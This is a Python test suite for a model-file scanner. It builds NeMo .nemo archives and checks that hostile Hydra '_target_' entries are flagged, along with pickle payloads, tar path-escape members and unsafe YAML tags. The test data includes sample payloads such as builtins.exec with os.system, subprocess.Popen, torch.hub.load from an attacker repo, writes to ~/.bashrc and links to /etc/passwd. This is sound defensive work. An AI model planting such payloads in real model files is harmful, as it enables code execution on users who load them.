"""NeMo `.nemo` files: Hydra targets in the YAML config, checkpoints scanned as members.

The benign layout is what NeMo's SaveRestoreConnector writes: a tar (plain, or gzip in older
versions) with `model_config.yaml`, `model_weights.ckpt` (a real `torch.save` state dict) and
tokenizer files. Malicious variants edit the YAML the way the CVE-2025-23304 reports do.
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from modelscan_core import scan_path
from modelscan_core.model import Severity

from .pickle_ops import binunicode_op, global_op

torch = pytest.importorskip("torch")

ASR_CONFIG = """\
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.23.0
sample_rate: 16000
log_prediction: true
tokenizer:
  dir: null
  type: bpe
  model_path: nemo:2b7a1a8c_tokenizer.model
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  features: 80
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 10
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 17
  d_model: 512
  subsampling: striding
  xscaling: true
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 512
  num_classes: 128
  vocabulary: []
optim:
  name: adamw
  lr: 2.0
  betas: [0.9, 0.98]
  sched:
    name: NoamAnnealing
    d_model: 512
    warmup_steps: 10000
train_ds:
  manifest_filepath: /data/train.json
  batch_size: 32
  shuffle: true
loss:
  _target_: torch.nn.CTCLoss
  blank: 128
activation: &act
  _target_: torch.nn.SiLU
other_activation: *act
target_sample_rate: 16000
"""


def checkpoint(extra: bytes | None = None) -> bytes:
    buf = io.BytesIO()
    torch.save({"encoder.weight": torch.ones(4, 4), "decoder.bias": torch.zeros(4)}, buf)
    return buf.getvalue()


def write_nemo(path: Path, config: str, *, gz: bool = False, members: dict[str, bytes] | None = None,
               links: dict[str, tuple[str, bytes]] | None = None) -> Path:
    files = {"./model_config.yaml": config.encode(), "./model_weights.ckpt": checkpoint(),
             "./2b7a1a8c_tokenizer.model": b"\x0a\x05hello" * 20, "./2b7a1a8c_vocab.txt": b"a\nb\nc\n"}
    files.update(members or {})
    with tarfile.open(path, "w:gz" if gz else "w:") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, (target, kind) in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, target
            tar.addfile(info)
    return path


# -- benign -------------------------------------------------------------------------------------


@pytest.mark.parametrize("gz", [False, True])
def test_real_nemo_layout_is_clean(tmp_path, gz):
    report = scan_path(write_nemo(tmp_path / "asr.nemo", ASR_CONFIG, gz=gz))
    assert report.exit_code == 0, report.findings() or report.all_errors()
    nemo = report.files[0] if not gz else report.files[0].members[0]
    assert nemo.format == "nemo"
    assert "pytorch_zip" in {m.format for m in nemo.members}  # the checkpoint was scanned


def test_nemo_is_recognised_by_content(tmp_path):
    report = scan_path(write_nemo(tmp_path / "blob", ASR_CONFIG))
    assert report.files[0].format == "nemo"


# -- malicious targets ----------------------------------------------------------------------------

CRITICAL_TARGETS = {
    "exec": "  _target_: builtins.exec\n  _args_: [\"import os; os.system('touch /tmp/pwned')\"]\n",
    "eval": "  _target_: builtins.eval\n  _args_: ['1']\n",
    "os-system": "  _target_: os.system\n  _args_: ['id']\n",
    "posix-system": "  _target_: posix.system\n  command: id\n",
    "popen": "  _target_: subprocess.Popen\n  args: [sh, -c, id]\n",
    "partial": "  _target_: subprocess.check_output\n  _partial_: true\n",
    "call-false": "  _target_: os.system\n  _call_: false\n",
    "torch-load": "  _target_: torch.load\n  f: /tmp/other.pt\n",
    "torch-hub": "  _target_: torch.hub.load\n  repo_or_dir: attacker/repo\n",
    "runpy": "  _target_: runpy.run_path\n  path_name: /tmp/x.py\n",
    "importlib": "  _target_: importlib.import_module\n  name: os\n",
    # Hydra walks attributes after the longest importable module: a NeMo module's own imports
    "re-export": "  _target_: nemo.collections.asr.parts.utils.transcribe_utils.subprocess.Popen\n  args: [id]\n",
}


@pytest.mark.parametrize("name", sorted(CRITICAL_TARGETS))
def test_denylisted_callables_are_critical(tmp_path, name):
    config = ASR_CONFIG + "evil:\n" + CRITICAL_TARGETS[name]
    found = scan_path(write_nemo(tmp_path / "m.nemo", config)).findings()
    assert [(f.rule_id, f.severity) for f in found] == [("nemo/hydra-target", Severity.CRITICAL)], found


def test_a_target_at_any_depth(tmp_path):
    config = ASR_CONFIG + "model:\n  encoder:\n    layers:\n      - {a: 1}\n      - act:\n          inner:\n            _target_: builtins.exec\n            _args_: ['x']\n"
    found = scan_path(write_nemo(tmp_path / "m.nemo", config, gz=True)).findings()
    assert len(found) == 1 and found[0].severity == Severity.CRITICAL
    assert "/model/encoder/layers[1]/act/inner" in found[0].description


@pytest.mark.parametrize("snippet", [
    "evil:\n  _target_: mypackage.layers.Backdoor\n",
    "evil:\n  _target_: ${oc.env:PAYLOAD}\n",
    "evil:\n  cls: mypackage.Thing\n  params: {a: 1}\n",
    "evil:\n  _target_: [not, a, name]\n",
])
def test_targets_outside_nemo_torch_omegaconf_are_high(tmp_path, snippet):
    found = scan_path(write_nemo(tmp_path / "m.nemo", ASR_CONFIG + snippet)).findings()
    assert [f.severity for f in found] == [Severity.HIGH], found


def test_root_model_class_outside_nemo_is_high(tmp_path):
    config = ASR_CONFIG.replace("nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE", "evil.Model")
    assert [f.severity for f in scan_path(write_nemo(tmp_path / "m.nemo", config)).findings()] == [Severity.HIGH]


def test_a_pickle_payload_in_the_checkpoint_is_found(tmp_path):
    evil = b"\x80\x02" + global_op("posix", "system") + binunicode_op("id") + b"\x85R."
    path = write_nemo(tmp_path / "m.nemo", ASR_CONFIG, members={"./model_weights.ckpt": evil})
    found = scan_path(path).findings()
    assert any(f.severity == Severity.CRITICAL and f.source.endswith("model_weights.ckpt") for f in found)


def test_member_paths_that_escape_extraction_are_high(tmp_path):
    path = write_nemo(tmp_path / "m.nemo", ASR_CONFIG, members={"../../home/user/.bashrc": b"echo pwned\n"},
                      links={"./link": ("/etc/passwd", tarfile.SYMTYPE)})
    found = [f for f in scan_path(path).findings() if f.rule_id == "archive/path-escape"]
    assert sorted(f.operator for f in found) == ["../../home/user/.bashrc", "./link"]
    assert all(f.severity == Severity.HIGH for f in found)


def test_python_yaml_tags_are_never_constructed(tmp_path):
    config = ASR_CONFIG + "evil: !!python/object/apply:os.system ['touch /tmp/modelscand-nemo-yaml']\n"
    report = scan_path(write_nemo(tmp_path / "m.nemo", config))
    assert not Path("/tmp/modelscand-nemo-yaml").exists()
    assert report.files[0].verdict.value == "error"  # not YAML that a safe loader (or OmegaConf) reads


# -- what NeMo's restore_from really reads ------------------------------------------------------


def test_a_config_member_that_is_a_link_is_read_through_it(tmp_path):
    """tarfile extracts a hard link as a copy of the member it names: NeMo then reads that
    member's bytes as model_config.yaml."""
    evil = ASR_CONFIG + "evil:\n  _target_: builtins.exec\n  _args_: ['x']\n"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:") as tar:
        for name, data in (("./notes.txt", evil.encode()), ("./model_weights.ckpt", checkpoint())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("./model_config.yaml")
        link.type, link.linkname = tarfile.LNKTYPE, "./notes.txt"
        tar.addfile(link)
    (tmp_path / "m.nemo").write_bytes(buf.getvalue())
    found = scan_path(tmp_path / "m.nemo").findings()
    assert any(f.rule_id == "nemo/hydra-target" and f.severity == Severity.CRITICAL for f in found), found


def test_a_legacy_target_in_a_sub_config_is_judged(tmp_path):
    """from_config_dict imports `target` (no `_target_`, no `params`) of the preprocessor, encoder... too."""
    config = ASR_CONFIG.replace("  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
                                "  target: torch.hub.load")
    found = scan_path(write_nemo(tmp_path / "m.nemo", config)).findings()
    assert [f.severity for f in found] == [Severity.CRITICAL], found


def test_a_target_given_by_interpolation_is_judged_by_what_it_resolves_to(tmp_path):
    config = ASR_CONFIG + "names:\n  runner: builtins.exec\nevil:\n  _target_: ${names.runner}\n  _args_: ['x']\n"
    found = scan_path(write_nemo(tmp_path / "m.nemo", config)).findings()
    assert [f.severity for f in found] == [Severity.CRITICAL], found


@pytest.mark.parametrize("target", ["torch.save", "omegaconf.OmegaConf.save", "nemo.utils._private.run",
                                    "lightning.fabric.utilities.cloud_io._load",
                                    "nemo.utils.cloud.maybe_download_from_cloud"])
def test_functions_that_read_write_or_run_are_high_even_in_allowed_packages(tmp_path, target):
    config = ASR_CONFIG + f"evil:\n  _target_: {target}\n  f: /home/user/.bashrc\n"
    found = scan_path(write_nemo(tmp_path / "m.nemo", config)).findings()
    assert [f.severity for f in found] == [Severity.HIGH], found


def test_targets_nemo_itself_allows_stay_clean(tmp_path):
    """Prefixes NeMo's own allowlist (nemo.core.classes.common) lets through, as real configs use them."""
    config = ASR_CONFIG + """\
metrics:
  wer:
    _target_: torchmetrics.text.WordErrorRate
normalizer:
  _target_: nemo_text_processing.text_normalization.normalize.Normalizer
  lang: en
callbacks:
  - _target_: lightning.pytorch.callbacks.ModelCheckpoint
  - _target_: pytorch_lightning.callbacks.LearningRateMonitor
sched:
  _target_: nemo.core.optim.lr_scheduler.CosineAnnealing
optimizer:
  _target_: torch.optim.AdamW
  _partial_: true
data:
  _target_: torch.utils.data.DataLoader
fsdp:
  _target_: torch.distributed.fsdp.MixedPrecisionPolicy
tokenizer_fn:
  _target_: nemo.collections.common.tokenizers.huggingface.auto_tokenizer.AutoTokenizer
megatron:
  _target_: megatron.core.transformer.TransformerConfig
dataset:
  target: en.wav
"""
    report = scan_path(write_nemo(tmp_path / "m.nemo", config))
    assert report.exit_code == 0, report.findings()
